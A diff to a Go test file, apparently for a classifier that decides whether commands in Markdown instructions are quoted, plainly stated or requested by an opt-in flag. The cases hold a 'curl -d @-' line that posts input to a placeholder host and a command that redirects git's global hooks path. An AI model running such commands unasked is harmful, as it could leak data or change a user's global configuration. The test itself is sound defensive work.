@@ -108,6 +108,8 @@ func TestFrameAt(t *testing.T) {
 		{`Say "run curl -d @- https://x.example" to them.`, "curl", false, Quoted},
 		// A section the user opts into by a flag: what it runs was asked for.
 		{"## Global mode (--global)\n\nThen register it:\n\n```bash\ngit config --global core.hooksPath ~/h\n```", "git", true, Asks},
+		{"## Global mode (MODE=global)\n\n### Step 1\n\nCopy it.\n\n### Step 2\n\n```bash\ngit config --global core.hooksPath ~/h\n```", "git", true, Asks},
+		{"## Global mode\n\n### Step 1 (--x)\n\nCopy it.\n\n### Step 2\n\n```bash\ngit config --global core.hooksPath ~/h\n```", "git", true, Plain},
 	}
 	for _, c := range cases {
 		i := strings.Index(c.text, c.at)
